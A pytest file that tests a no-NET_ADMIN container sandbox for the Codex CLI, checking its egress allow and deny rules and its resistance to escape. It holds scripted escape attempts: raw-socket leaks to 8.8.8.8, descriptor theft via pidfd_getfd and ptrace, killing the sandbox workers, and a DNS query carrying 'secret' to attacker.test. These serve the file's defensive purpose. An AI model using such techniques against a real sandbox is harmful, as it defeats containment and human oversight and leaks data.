"""The cell: a container without NET_ADMIN, in the three forms that people start. The tests that are
imported are those of the nft wall, held to here as well. What leaves is judged on the wire."""

import json
import os
import re
import subprocess
import uuid

import pytest
from conftest import IMAGE, ROOT, Runner, program, until
from internet import DNS_ADDRESS, OPENAI, Wire, address_of
from test_codex import (  # noqa: F401
    model,
    login,
    test_addresses_of_openai_that_change_at_every_question,
)
from test_contract import (  # noqa: F401
    test_a_bad_rule_in_the_environment_is_quoted_with_its_position,
    test_a_command_that_cannot_be_executed,
    test_a_command_that_is_not_there,
    test_an_allowed_name_is_reached,
    test_another_name_is_refused_at_once_with_a_reason,
    test_openai_allowed_domains_allows_a_name,
    test_openai_allowed_domains_is_a_list,
    test_the_exit_status_is_the_payloads,
)
from test_gate_proxy import proxy, test_everything_goes_by_the_proxy  # noqa: F401
from test_names_boot import test_require_names_makes_that_fatal  # noqa: F401
from test_names_rules import test_options_add_to_the_environment  # noqa: F401
from test_payload import (  # noqa: F401
    test_docker_stop_is_quick_and_kind,
    test_nothing_but_the_standard_descriptors,
    test_orphans_are_reaped,
    test_signals_reach_it_once,
    test_system_calls_that_no_tool_needs_fail,
)

FORMS = {
    # Nothing at all: root with what the engine gives, which is dropped.
    "flagless": (),
    # No id can be changed: the command is root without a right.
    "no capability": ("--cap-drop=ALL",),
    # Kubernetes' restricted pods, and what clusters make of them.
    "plain uid": (
        *("--user", "1000:1000", "--cap-drop=ALL", "--read-only"),
        *("--tmpfs", "/run", "--tmpfs", "/tmp"),
    ),
}
NAMED = {name: flags for name, flags in FORMS.items() if name != "plain uid"}
LIMIT = ("--pids-limit", "200")


class CellRunner(Runner):
    def __init__(self, lab, flags):
        super().__init__(lab)
        self.flags = flags


@pytest.fixture(params=FORMS)
def runner(lab, internet, request):
    """In the place of conftest's: whatever goes by it runs in each form."""
    return CellRunner(lab, FORMS[request.param])


@pytest.fixture(params=NAMED)
def named(lab, internet, request):
    """The forms in which the names are in /etc/hosts, so that programs need no proxy."""
    return CellRunner(lab, NAMED[request.param])


def test_it_says_which_wall_it_is(start):
    box = start("sleep", "60")
    box.until_says("codex-init: wall: without NET_ADMIN: the command is in the cell")


def test_status_says_so_too(named):
    done = named.shell("cat /run/codex/status.json").ok()
    assert json.loads(done.out)["wall"] == "cell"


def test_the_command_has_no_privilege(run):
    done = run("cat", "/proc/self/status").ok()
    fields = dict(line.split(":\t", 1) for line in done.lines() if ":\t" in line)
    for name in ("CapInh", "CapPrm", "CapEff", "CapAmb"):
        assert int(fields[name], 16) == 0, name
    assert fields["NoNewPrivs"] == "1" and fields["Seccomp"] == "2"


def test_roots_workdir_makes_nobody_root(lab, internet, tmp_path):
    """Only in a rootless engine is uid 0 a user, and stays (test_rootless_docker.py)."""
    flagless = CellRunner(lab, FORMS["flagless"])
    tmp_path.chmod(0o755)
    done = flagless.run("id", "-u", options=["-v", f"{tmp_path}:/project", "-w", "/project"]).ok()
    assert done.out == "1000\n" and "belongs to root" in done.err, done


def test_a_turn_of_codex(run, model, sinks):  # noqa: F811
    """Its tools reach what is allowed, and nothing else."""
    model.script(
        "curl -sS -o /dev/null -w 'allowed %{http_code}\\n' https://allowed.test",
        "curl -sS -m 5 https://other.test; echo refused $?; echo in $(pwd)",
    )
    key = {"CODEX_API_KEY": "sk-lab-key"}
    done = run("codex", "exec", "--skip-git-repo-check", "do it", env=key, allow="allowed.test").ok()
    said = "".join(model.outputs())
    assert "allowed 200" in said and "refused 56" in said and "in /workspace" in said, done
    assert {f.address for f in sinks.seen()} <= {address_of("allowed.test"), *map(address_of, OPENAI)}
    assert "--allow other.test" in done.err


def test_docker_run_it_and_no_more(lab, internet, terminal, sinks):
    """What README begins with, word for word: Codex's screen, in the cell."""
    docker = CellRunner(lab, ()).docker
    first = (ROOT / "README.md").read_text()[:600]
    words = re.search(r"`(docker run -it codex-sandbox)`", first).group(1).split()
    name = f"test-{uuid.uuid4().hex[:12]}"
    words = [{"codex-sandbox": IMAGE, "run": f"--host={lab.engine.host} run --name {name}"}.get(w, w) for w in words]
    t = terminal(" ".join(words).split())
    try:
        t.until_says(b"the command is in the cell", 30)
        t.until_says(b"\x1b[?1049h", 30)  # Codex takes the terminal over
        t.until_says(b"Sign in with Device Code", 30)
        none = docker("inspect", "-f", "{{.HostConfig.CapAdd}} {{.HostConfig.Privileged}} {{.HostConfig.CapDrop}}", name)
        assert none.ok().out == "[] false []\n"
    finally:
        docker("rm", "-f", name)
    assert {f.address for f in sinks.seen()} <= {address_of(n) for n in OPENAI}


def test_a_turn_with_a_login(run, runner, model, tmp_path):  # noqa: F811
    auth = login(tmp_path)
    if runner.flags == FORMS["no capability"]:
        os.chown(auth, 0, 0)  # root without a right reads what is root's
    model.script("true")
    run("codex", "exec", "--skip-git-repo-check", "do it", options=["-v", f"{auth}:/codex_home/auth.json:ro"]).ok()
    posts = [r for r in model.requests if r["method"] == "POST" and r["path"].endswith("/responses")]
    assert {(r["host"], r["authorization"]) for r in posts} == {("chatgpt.com", "chatgpt")}


# ---- Names -----------------------------------------------------------------------------------


def test_programs_find_names_by_the_hosts_file(named, sinks):
    done = named.shell(
        "getent ahosts allowed.test; curl --noproxy '*' -sS https://allowed.test/",
        allow="allowed.test",
    ).ok()
    assert "127.64." in done.out and address_of("allowed.test") not in done.out
    assert sinks.seen() == [("tcp", address_of("allowed.test"), 443)]


def test_names_under_wildcards_by_tcp(named, sinks, dns):
    dns.add("a.wild.test", "45.20.0.1")
    done = named.shell(
        "dig +tcp +short a.wild.test; curl --noproxy '*' -sSk https://a.wild.test/ | head -c 100;"
        "curl --noproxy '*' -sS http://b.other.test/",
        allow="*.wild.test",
    )
    assert done.status == 6 and done.lines()[0].startswith("127.64.")
    assert sinks.seen() == [("tcp", "45.20.0.1", 443)]
    assert dns.asked("other.test") == []


def test_other_ports_go_by_the_name_too(named, sinks):
    done = named.shell(
        "exec 3<>/dev/tcp/allowed.test/2222 && echo hello >&3 && timeout 2 cat <&3",
        allow="allowed.test:2222",
    )
    assert ("tcp", address_of("allowed.test"), 2222) in sinks.seen(), done


def test_private_names(named, dns, sinks):
    dns.add("db.corp.test", "10.20.30.40")
    named.shell(
        "exec 3<>/dev/tcp/db.corp.test/5432; echo x >&3; sleep 0.3", allow="db.corp.test:5432+private"
    )
    assert sinks.seen() == [("tcp", "10.20.30.40", 5432)]


def test_what_is_passed_by_the_engine_does_as_well(lab, internet, sinks):
    """A plain uid can't write /etc/hosts: --check --hosts prints what puts the names there."""
    rules = ("--allow", "allowed.test", "--allow", "*.wild.test")
    init = program([ROOT / "build/codex-init", *rules, "--check", "--hosts"]).ok()
    passed = init.lines()[0].split()
    assert "hostAliases:" in init.out and "127.64.0.0" in init.out
    plain = CellRunner(lab, FORMS["plain uid"])
    internet.dns.add("a.wild.test", "45.20.0.1")
    done = plain.shell(
        "curl --noproxy '*' -sS https://allowed.test/ -o /dev/null -w '%{http_code} ';"
        "dig +tcp +short a.wild.test",
        options=[*passed, "-e", f"CODEX_INIT_UPSTREAM={DNS_ADDRESS}"],
        init=rules,
    ).ok()
    assert done.out.startswith("200 127.64."), done
    assert "/etc/hosts" not in done.err
    assert sinks.seen() == [("tcp", address_of("allowed.test"), 443)]


def test_a_container_that_is_started_again(lab, start, docker, sinks):
    box = start("curl", "-sS", "https://api.openai.com/")
    assert box.wait() == 0
    docker("start", box.name).ok()
    assert box.wait() == 0
    assert box.logs().count("this is api.openai.com") == 2


def test_a_private_address_for_a_public_name_is_not_believed(run, dns, sinks, wire):
    dns.add("inside.test", "10.20.30.40")
    assert run("curl", "-sS", "https://inside.test/", allow="inside.test").status != 0
    assert left(wire, sinks) == ([], [])


def test_names_that_a_rule_denies_or_none_allows(run, sinks, dns):
    rules = ["--allow", "*.wild.test", "--deny", "a.wild.test"]
    assert run("curl", "-sS", "https://a.wild.test/", init=rules).status != 0
    assert sinks.seen() == [] and dns.asked("a.wild.test") == []


# ---- What can't work is refused --------------------------------------------------------------


@pytest.mark.parametrize(
    "init, quoted",
    [
        (["--allow", "10.0.0.0/8:5432+private"], "10.0.0.0/8:5432+private"),
        (["--allow", "45.1.2.3:443"], "45.1.2.3/32:443"),
        (["--allow", "*.wild.test:22"], "*.wild.test:22"),
        (["--egress=audit"], "--egress=audit"),
        (["--egress=pin"], "--egress=pin"),
        (["--publish", "8080"], "--publish"),
    ],
)
def test_what_cannot_work_is_refused_at_the_start(run, sinks, init, quoted):
    done = run("echo", "ran", init=init).ok(100)
    assert quoted.split("/")[0] in done.err and "NET_ADMIN" in done.err and "ran" not in done.out, done
    assert sinks.seen(dns=True) == []


def test_a_setting_that_would_open_the_loopback_device_ends_the_start(runner, sinks):
    setting = ("--sysctl", "net.ipv4.conf.lo.accept_local=1")
    done = runner.run("echo", "ran", options=setting).ok(111)
    assert "accept_local" in done.err and "ran" not in done.out
    assert sinks.seen(dns=True) == []


def test_a_connection_for_standard_input_ends_the_start(runner):
    """Whoever starts the container may have handed one down; the command would have it."""
    script = (
        "import os, socket; s = socket.create_server(('127.0.0.1', 0));"
        "c = socket.create_connection(s.getsockname()); os.dup2(c.fileno(), 0);"
        "os.execv('/sbin/codex-init', ['codex-init', '--', 'echo', 'ran'])"
    )
    made = [*runner.flags, "--entrypoint", "python3", IMAGE, "-c", script]
    done = runner.docker("run", "--rm", "--pull=never", *made).ok(111)
    assert "descriptor 0" in done.err and "ran" not in done.out, done


# ---- Ways out --------------------------------------------------------------------------------

WAYS = r"""
import array, ctypes, errno, fcntl, os, select, socket, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
OUT = "8.8.8.8"
def quiet(f, *a):
    try: return f(*a)
    except (OSError, TypeError, OverflowError) as e: return e
def aim(s, to=(OUT, 443)):
    s.setblocking(False)
    quiet(s.connect, to)
    select.select([], [s], [], 0.05)
    quiet(s.send, b"leaked")
def tcp(): return socket.socket(socket.AF_INET, socket.SOCK_STREAM)
def sockets():
    for family in range(50):
        for kind in (1, 2, 3, 5, 6, 10):
            for protocol in (0, 1, 6, 17, 41, 47, 58, 132, 136, 255, 262):
                s = quiet(socket.socket, family, kind, protocol)
                if isinstance(s, socket.socket):
                    if family not in (1, 16):
                        quiet(s.sendto, b"leaked", (OUT, 53))
                        aim(s) if kind == 1 else None
                    s.close()
def udp():
    s = quiet(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
    assert isinstance(s, OSError), "udp"
def rebinding():
    for device in os.listdir("/sys/class/net"):
        s = tcp()
        quiet(s.setsockopt, socket.SOL_SOCKET, 25, device.encode() + b"\0")
        quiet(s.setsockopt, socket.SOL_SOCKET, 25, b"")
        for level, name in ((1, 62), (0, 50), (41, 76), (1, 36), (0, 15), (0, 19), (1, 5)):
            for index in range(4):
                quiet(s.setsockopt, level, name, struct.pack("i", index))
                quiet(s.setsockopt, level, name, struct.pack(">i", index))
        aim(s)
def sources():
    for own in (socket.gethostbyname(socket.gethostname()), "127.0.0.1", "8.8.4.4"):
        s = tcp()
        quiet(s.bind, (own, 0))
        aim(s)
def disconnecting():
    s = tcp()
    for _ in range(3):
        libc.connect(s.fileno(), struct.pack("H14x", 0), 16)
        aim(s)
    l = tcp(); l.bind(("127.0.0.1", 0)); l.listen()
    s = tcp(); s.connect(l.getsockname()); a, _ = l.accept()
    for one in (s, a):
        libc.connect(one.fileno(), struct.pack("H14x", 0), 16)
        aim(one)
def fast_open():
    for option in (23, 30, 34):
        s = tcp(); s.setblocking(False)
        quiet(s.setsockopt, 6, option, 1)
        quiet(s.setsockopt, 6, 34, 1)
        quiet(s.sendto, b"leaked", 0x20000000, (OUT, 443))
        aim(s)
def packet_info():
    s = tcp(); s.setblocking(False)
    for index in range(4):
        data = struct.pack("I4s4s", index, b"\0" * 4, b"\0" * 4)
        quiet(s.sendmsg, [b"leaked"], [(0, 8, data)], 0x20000000, (OUT, 443))
def mapped():
    for index in range(4):
        s = quiet(socket.socket, socket.AF_INET6, socket.SOCK_STREAM)
        if isinstance(s, socket.socket):
            quiet(s.bind, ("fe80::dead", 0, 0, index))
            aim(s, ("::ffff:" + OUT, 443))
def passed():
    a, b = socket.socketpair()
    if os.fork() == 0:
        s = tcp()
        socket.send_fds(a, [b"x"], [s.fileno()]); os._exit(0)
    _, fds, _, _ = socket.recv_fds(b, 1, 1)
    aim(socket.socket(fileno=fds[0]))
def taken():
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        fd = libc.syscall(434, pid, 0)
        for n in range(40):
            got = libc.syscall(438, fd, n, 0) if fd >= 0 else -1
            if got >= 0 and pid != os.getpid():
                sys.exit(f"took descriptor {n} of {pid}")
        if pid != os.getpid() and libc.ptrace(0x4206, pid, 0, 0) == 0 and open(f"/proc/{pid}/comm").read().startswith("codex-"):
            sys.exit(f"traced {pid}")
        for name in ("mem", "fd/3", "fd/5", "environ", "auxv"):
            if pid != os.getpid() and open(f"/proc/{pid}/comm").read().startswith("codex-"):
                f = quiet(os.open, f"/proc/{pid}/{name}", os.O_RDONLY)
                assert isinstance(f, OSError), (pid, name)
def listeners():
    # a filter of one's own that would answer for all: SECCOMP_RET_USER_NOTIF, then CONTINUE
    code = struct.pack("HBBI", 6, 0, 0, 0x7fc00000)
    class P(ctypes.Structure):
        _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.c_char_p)]
    assert libc.syscall(317, 1, 8, ctypes.byref(P(1, code))) < 0, "listener"
def namespaces():
    assert libc.unshare(0x10000000 | 0x40000000) < 0
    assert libc.syscall(435, ctypes.create_string_buffer(88), 88) < 0
    assert libc.syscall(425, 8, ctypes.create_string_buffer(120)) < 0
def races():
    stop = []
    def meddle():
        while not stop:
            for fd in range(5, 20): quiet(os.dup2, 0, fd)
            for fd in range(5, 20): quiet(os.close, fd)
    def make():
        for _ in range(60):
            s = quiet(tcp)
            if isinstance(s, socket.socket):
                quiet(aim, s)
                s.detach()
    threads = [threading.Thread(target=make) for _ in range(8)]
    m = threading.Thread(target=meddle); m.start()
    for t in threads: t.start()
    for t in threads: t.join()
    stop.append(1); m.join()
def flood():
    held = []
    while True:
        s = quiet(tcp)
        if isinstance(s, OSError): break
        held.append(s)
    for s in held[:50]: aim(s)
def signals():
    me = os.getpid()
    for _ in range(4):
        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            try: comm = open(f"/proc/{pid}/comm").read()
            except OSError: continue
            if pid == 1 or comm.startswith("codex-"):
                for sig in (19, 9): quiet(os.kill, pid, sig)
        s = quiet(tcp)
        if isinstance(s, socket.socket): aim(s)
        time.sleep(0.3)
globals()[sys.argv[1]]()
print("tried")
"""
NAMES = [line[4:].split("(")[0] for line in WAYS.splitlines() if line.startswith("def ")]
TRIED = [n for n in NAMES if n not in ("quiet", "aim", "tcp")]


def left(wire, sinks):
    """What was seen of a container but its resolver's questions."""
    return [f for f in wire.seen() if f.address != DNS_ADDRESS], sinks.seen()


@pytest.mark.parametrize("way", TRIED)
def test_no_way_out(runner, way, sinks, wire):
    done = runner.run("python3", "-c", WAYS, way, options=LIMIT)
    assert done.ok().out.strip().endswith("tried"), done
    assert left(wire, sinks) == ([], [])


def test_the_same_leave_without_the_cell(lab, internet, sinks):
    """The opposite: so the ways are ways, and the judge sees them."""
    plain = CellRunner(lab, ("--cap-drop=ALL",))
    for way in ("sources", "disconnecting", "mapped", "passed"):
        internet.reset()
        made = plain.arguments(("python3", "-c", WAYS, way), None, None, LIMIT, None, None, ["--egress=off"], False)
        plain.docker("run", "--rm", "--pull=never", *made)
        assert sinks.seen() != [], way


def test_ipv6_is_as_strict(runner, network, sinks, wire):
    net = network("--ipv6", "--subnet", "fd77:1:7::/64")
    for way in ("mapped", "sockets"):
        done = runner.run("python3", "-c", WAYS, way, network=net, options=LIMIT)
        assert done.ok().out.strip().endswith("tried"), done
    assert left(wire, sinks) == ([], [])


RESOLVER = """
import socket, struct
s = socket.socket(); s.settimeout(1)
q = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\\6secret\\10attacker\\4test\\0" + struct.pack(">HH", 1, 1)
for port in (53, *range(30000, 30010)):
    try:
        s = socket.socket(); s.settimeout(1); s.connect(("127.0.0.11", port))
        s.send(struct.pack(">H", len(q)) + q); print(s.recv(100))
    except OSError as e: print(e)
"""


def test_the_engines_resolver_carries_nothing(runner, network, dns):
    net = network()
    done = runner.run("python3", "-c", RESOLVER, network=net)
    assert dns.asked("attacker.test") == [] and "b'" not in done.out, done
    done = runner.run("curl", "-sS", "https://api.openai.com/", network=net).ok()
    assert done.out == "this is api.openai.com\n"


def test_neighbours_and_the_gateway_are_refused(runner, start, wire, sinks):
    script = (
        "import socket\n"
        f"for to in (('{Wire.GATEWAY}', 22), ('{Wire.GATEWAY}', 53), ('172.30.0.2', 80)):\n"
        "    try: socket.create_connection(to, 0.2).send(b'x')\n"
        "    except OSError: pass\n"
    )
    runner.run("python3", "-c", script).ok()
    assert left(wire, sinks) == ([], [])


def build(tmp_path, name, *flags):
    """A program that makes a UDP and a TCP socket by system calls of its own."""
    source = tmp_path / f"{name}.c"
    source.write_text(
        """
#if defined(__i386__)
static long call(long n, long a, long b, long c)
{
	long r;
	__asm__ volatile("int $0x80" : "=a"(r) : "a"(n), "b"(a), "c"(b), "d"(c) : "memory");
	return r;
}
#define SOCKET 359
#define CONNECT 362
#define EXIT 1
#else
static long call(long n, long a, long b, long c)
{
	long r;
	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}
#define SOCKET (41 | X32)
#define CONNECT (42 | X32)
#define EXIT 60
#endif
#ifndef X32
#define X32 0
#endif
void _start(void)
{
	static const unsigned char to[16] = {2, 0, 1, 187, 8, 8, 8, 8};
	for (int type = 1; type <= 3; type++) {
		long s = call(SOCKET, 2, type, type == 3 ? 6 : 0);
		if (s >= 0 && (type == 1 || call(CONNECT, s, (long)to, 16) == 0))
			call(CONNECT, s, (long)to, 16);
	}
	call(EXIT, 0, 0, 0);
}
"""
    )
    program = tmp_path / name
    subprocess.run(
        ["gcc", "-O1", "-static", "-nostdlib", "-fno-stack-protector", *flags, "-o", program, source],
        check=True,
    )
    program.chmod(0o755)
    tmp_path.chmod(0o755)
    return program


@pytest.mark.parametrize("flags", [(), ("-m32",), ("-DX32=0x40000000",)], ids=["static", "32 bit", "x32"])
def test_programs_of_other_kinds(runner, tmp_path, flags, sinks, wire):
    made = build(tmp_path, "odd", *flags)
    runner.run("timeout", "5", "/odd", options=["-v", f"{made}:/odd:ro"])
    assert left(wire, sinks) == ([], [])


# ---- Workers that are ended ------------------------------------------------------------------


def test_workers_that_are_killed_come_back(runner, sinks):
    """Where the command has the workers' uid it may end them; it pays for that alone."""
    done = runner.shell(
        "for c in /proc/[0-9]*/comm; do grep -q ^codex- $c && p=${c%/comm} && kill -9 ${p#/proc/}; done;"
        "sleep 1; curl -sS -m 20 --retry 5 --retry-all-errors https://api.openai.com/",
        options=LIMIT,
    ).ok()
    assert done.lines()[-1] == "this is api.openai.com"
    assert sinks.seen() == [("tcp", address_of("api.openai.com"), 443)]


def test_workers_that_are_stopped_go_on(runner, sinks):
    done = runner.shell(
        "for c in /proc/[0-9]*/comm; do grep -q ^codex- $c && p=${c%/comm} && kill -STOP ${p#/proc/}; done;"
        "curl -sS -m 20 https://api.openai.com/",
    ).ok()
    assert done.lines()[-1] == "this is api.openai.com"


def test_a_worker_that_is_killed_too_often_stays_down(lab, internet, start, sinks, wire):
    """No socket can be had then, and none is without the cell."""
    plain = CellRunner(lab, FORMS["no capability"])
    script = """
import os, socket, time
def workers():
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            if open(f"/proc/{pid}/comm").read() == "codex-cell\\n": yield int(pid)
        except OSError: pass
for _ in range(400):
    for pid in workers():
        try: os.kill(pid, 9)
        except OSError: pass
    time.sleep(0.05)
try: socket.socket(); print("had one")
except OSError as e: print(e.strerror)
"""
    done = plain.run("python3", "-c", script, timeout=120).ok()
    if "had one" not in done.out:  # a kernel with Landlock's scopes keeps the workers from it
        assert "Function not implemented" in done.out, done
    assert left(wire, sinks) == ([], [])


# ---- What goes on inside ---------------------------------------------------------------------


def test_servers_on_loopback(run):
    script = (
        "python3 -m http.server -b 0.0.0.0 8123 >/dev/null 2>&1 &"
        "until curl -s http://localhost:8123/ >/dev/null; do sleep 0.1; done;"
        "curl -sS -o /dev/null -w '%{http_code}' http://localhost:8123/;"
        "curl -sS -o /dev/null -w '%{http_code}' http://$(hostname -i | cut -d' ' -f1):8123/"
    )
    assert run("bash", "-c", script).ok().out == "200200"


def test_nobody_comes_in(start, docker, runner):
    box = start("python3", "-m", "http.server", "-b", "0.0.0.0", "8123")
    until(lambda: ":1FBB" in box.exec("cat", "/proc/net/tcp").out)
    assert box.exec("curl", "-sS", "-m", "3", "http://127.0.0.1:8123/").status == 0
    address = box.address()
    tried = docker(
        *("run", "--rm", "--pull=never", "--entrypoint", "curl"),
        *(runner.arguments((), None, None, (), (), None, (), False)),
        *("-sS", "-m", "2", f"http://{address}:8123/"),
    )
    assert tried.status in (7, 28), tried


def test_a_name_that_is_denied_while_it_runs(lab, internet, start):
    """codex-egress narrows in the cell as well; where all have one uid it opens nothing."""
    box = start("sleep", "60", allow="allowed.test")
    if box.exec("test", "-S", "/run/codex/control").status:
        return  # a plain uid to whom /run isn't open has no codex-egress
    user = box.inspect(".Config.User") or "root"
    until(lambda: box.exec("codex-egress", "status", user=user).status == 0)
    assert box.exec("codex-egress", "explain", "allowed.test", user=user).status == 0
    box.exec("codex-egress", "deny", "allowed.test", user=user).ok()
    assert box.exec("codex-egress", "explain", "allowed.test", user=user).status == 1


def test_rules_at_run_time_in_the_cell(start, runner, sinks):
    """Where the command has a uid of its own, names can be allowed; addresses can't be reached."""
    if runner.flags != FORMS["flagless"]:
        return  # see above
    box = start("sleep", "60", allow="allowed.test")
    until(lambda: box.exec("codex-egress", "status").status == 0)
    by_proxy = ("bash", "-c", "HTTPS_PROXY=$(tr '\\0' '\\n' </proc/$(pgrep -u 1000 sleep)/environ"
                " | sed -n s/^HTTPS_PROXY=//p) curl -sS -m 5 https://other.test/")
    assert box.exec(*by_proxy, user="1000").status != 0
    assert not sinks.seen()
    box.exec("codex-egress", "allow", "other.test").ok()
    box.exec(*by_proxy, user="1000").ok()
    assert {f.address for f in sinks.seen()} == {address_of("other.test")}
    told = box.exec("codex-egress", "allow", "45.5.0.0/16:443").ok(1)
    assert "can't be reached in the cell" in told.out
    for rule in ("other.test:2222", "*.wild.test:22"):
        assert "in the cell" in box.exec("codex-egress", "allow", rule).ok(1).out
    box.exec("codex-egress", "undo", "other.test").ok()
    sinks.mark()
    assert box.exec(*by_proxy, user="1000").status != 0
    assert not sinks.seen()


# ---- The launcher ----------------------------------------------------------------------------


def test_the_launcher_asks_for_no_capability(stub):
    line = stub("--wall=cell", "--dry-run").ok().out
    assert "--cap-" not in line and "--wall cell" in line
    assert "--cap-add=NET_ADMIN" in stub("--dry-run").ok().out
    for option in (["--audit"], ["--publish", "8080"]):
        assert stub("--wall=cell", *option, "--dry-run").status == 100, option
    assert stub("--wall=maybe", "--dry-run").status == 100


def test_the_launchers_sandbox_is_a_cell(stub, workdir, sinks):
    script = "id -u; touch made; curl -sS -o /dev/null -w '%{http_code}' https://8.8.8.8; codex-egress"
    done = stub("--wall=cell", "--exec", "sh", "-c", script)
    assert done.lines()[0] == "1000" and "in the cell" in done.err, done
    assert (workdir / "made").stat().st_uid == 1000
    assert sinks.seen() == []
